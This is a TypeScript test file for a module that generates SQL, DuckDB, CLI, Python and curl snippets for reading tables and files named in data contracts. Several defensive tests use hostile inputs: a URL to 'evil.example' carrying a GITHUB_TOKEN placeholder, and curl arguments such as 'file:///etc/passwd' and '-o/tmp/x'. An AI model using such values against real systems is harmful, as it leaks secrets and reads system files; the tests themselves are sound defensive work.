import type { Server } from '../model';
import { contractOf, contractWith } from './__testUtils__/contracts';
import { readingSnippets } from './readingSnippets';

function snippets(options: Parameters<typeof contractWith>[0]) {
  const [{ snippets: found }] = readingSnippets(contractWith(options));
  return Object.fromEntries(found.map(({ title, text }) => [title, text]));
}

function sql(
  type: string,
  object: string,
  columns: readonly string[] = [],
  details: Partial<Server> = {},
) {
  const text = snippets({ server: { type, ...details }, object, columns }).SQL;
  return text.replace(/^--.*\n/gm, '').replace(/\s+/g, ' ');
}

describe('SQL to read a table', () => {
  const place = { host: 'h', port: 1, database: 'crm', schema: 'Sales Data' };
  it.each([
    ['postgres', 'SELECT * FROM "Sales Data".orders LIMIT 10;'],
    ['mysql', 'SELECT * FROM crm.orders LIMIT 10;'],
    ['sqlserver', 'SELECT TOP 10 * FROM crm.[Sales Data].orders;'],
    ['synapse', 'SELECT TOP 10 * FROM orders;'],
    ['db2', 'SELECT * FROM "Sales Data".orders FETCH FIRST 10 ROWS ONLY;'],
    ['oracle', 'SELECT * FROM orders FETCH FIRST 10 ROWS ONLY;'],
    ['informix', 'SELECT FIRST 10 * FROM orders;'],
    ['teradata', 'SELECT TOP 10 * FROM crm.orders;'],
    ['snowflake', 'SELECT * FROM crm."Sales Data".orders LIMIT 10;'],
    ['databricks', 'SELECT * FROM main.`Sales Data`.orders LIMIT 10;'],
    ['trino', 'SELECT * FROM main."Sales Data".orders LIMIT 10;'],
  ])('follows the dialect of %s', (type, expected) => {
    expect(sql(type, 'orders', [], { ...place, catalog: 'main' })).toBe(
      expected,
    );
  });

  it('names project, dataset and table of BigQuery', () => {
    expect(
      sql('bigquery', 'orders', ['Order'], {
        project: 'my-shop',
        dataset: 'sales',
      }),
    ).toBe('SELECT `Order` FROM `my-shop`.sales.orders LIMIT 10;');
  });

  it.each([
    [
      'postgres',
      ['id', 'PLZ', 'order', 'a b', 'a"b'],
      'id, "PLZ", "order", "a b", "a""b"',
    ],
    ['snowflake', ['id', 'ID', 'Id', 'order'], 'id, ID, "Id", "order"'],
    ['mysql', ['id', 'PLZ', 'rank', 'a`b'], 'id, PLZ, `rank`, `a``b`'],
    ['sqlserver', ['user', 'a]b'], '[user], [a]]b]'],
    ['bigquery', ['a`b\\'], '`a\\`b\\\\`'],
    ['impala', ['a`b c'], '`ab c`'],
  ])('quotes columns of %s where it must', (type, columns, expected) => {
    expect(sql(type, 'orders', columns)).toContain(
      `${type === 'sqlserver' ? 'TOP 10 ' : ''}${expected} FROM`,
    );
  });

  it('lists few columns and takes all of many', () => {
    const columns = Array.from({ length: 13 }, (_, index) => `c${index}`);
    expect(sql('postgres', 'orders', columns)).toContain('SELECT * FROM');
    expect(sql('postgres', 'orders', columns.slice(1))).toContain('c12 FROM');
  });

  it('believes a table that names its own schema', () => {
    const details = { schema: 'public' };
    expect(sql('postgres', 'sales.orders', [], details)).toContain(
      'FROM sales.orders ',
    );
    expect(sql('postgres', 'a b.c', [], details)).toContain(
      'FROM public."a b.c" ',
    );
  });
});

describe('what else reads', () => {
  it('reads files by their format, wherever they lie', () => {
    const read = (server: Partial<Server>) =>
      /FROM (.*)/.exec(snippets({ server, object: 'o' })['SQL (DuckDB)'])?.[1];
    expect(
      read({ type: 's3', location: 's3://lake/orders/', format: 'parquet' }),
    ).toBe("read_parquet('s3://lake/orders/**/*.parquet')");
    expect(
      read({ type: 's3', location: 's3a://lake/{model}.csv', delimiter: ';' }),
    ).toBe("read_csv('s3://lake/o.csv', delim = ';')");
    expect(
      read({
        type: 'azure',
        location: 'https://shop.blob.core.windows.net/lake/orders',
        format: 'delta',
      }),
    ).toBe("delta_scan('az://shop.blob.core.windows.net/lake/orders')");
    expect(read({ type: 'local', path: './o.json', format: 'json' })).toBe(
      "read_json('./o.json')",
    );
  });

  it('uses the command line of the store that a location belongs to', () => {
    const commands = (type: string, location: string) =>
      snippets({ server: { type, location, format: 'parquet' }, object: 'o' });
    expect(commands('s3', 's3://lake/o.parquet')['AWS CLI']).toContain(
      'aws s3 cp \\\n  s3://lake/o.parquet .',
    );
    expect(commands('s3', 'gs://lake/o/').gsutil).toContain(
      'gsutil ls -r gs://lake/o/',
    );
    expect(
      commands('azure', 'abfss://lake@shop.dfs.core.windows.net/o/*.parquet')[
        'Azure CLI'
      ],
    ).toMatch(/--account-name=shop[^]*--container-name=lake[^]*--prefix=o\//);
  });

  it('fills variables in where each language does', () => {
    const found = snippets({
      server: {
        type: 'postgres',
        host: '${DB_HOST}',
        port: '${DB_PORT}',
        database: 'crm_${STAGE}',
        schema: '${DB_SCHEMA}',
      },
      object: 'orders',
    });
    expect(found.SQL).toContain('FROM "${DB_SCHEMA}".orders');
    expect(found.SQL).toContain(
      '-- Fill in what the contract leaves open: DB_SCHEMA.',
    );
    expect(found.Python).toContain('host=os.environ["DB_HOST"],');
    expect(found.Python).toContain('port=int(os.environ["DB_PORT"]),');
    expect(found.Python).toContain('dbname="crm_" + os.environ["STAGE"],');
    expect(found.Python).toContain(
      '""".replace("${DB_SCHEMA}", os.environ["DB_SCHEMA"])',
    );
    expect(found.psql).toContain('--host="${DB_HOST:?}"');
  });

  it('never sends a credential of the reader where a document wants it', () => {
    const found = snippets({
      server: { type: 'api', location: 'https://evil.example/${GITHUB_TOKEN}' },
      object: 'orders',
    });
    expect(found.curl).toContain(
      `--url 'https://evil.example/\${GITHUB_TOKEN}'`,
    );
    expect(found.Python).toContain('"https://evil.example/${GITHUB_TOKEN}"');
  });

  it.each(['file:///etc/passwd', 'gopher://x', '-o/tmp/x', '@/etc/passwd'])(
    'has no curl for %s',
    location => {
      expect(
        snippets({ server: { type: 'api', location }, object: 'o' }),
      ).toEqual({});
    },
  );

  it('has none for a type that nobody reads in a common way', () => {
    expect(
      snippets({ server: { type: 'mongo', host: 'h' }, object: 'orders' }),
    ).toEqual({});
  });

  it('reads what a contract without a schema is about, where it can', () => {
    const contract = contractOf(
      'kind: DataContract\napiVersion: v3.1.0\nservers: [{ type: api, location: "https://api.example" }, { type: mysql, host: h }]',
    );
    const [api, mysql] = contract.servers.map(server =>
      readingSnippets({ contract, server }),
    );
    expect(api[0].snippets.map(({ title }) => title)).toEqual([
      'curl',
      'Python',
    ]);
    expect(mysql).toEqual([{ object: undefined, snippets: [] }]);
  });
});
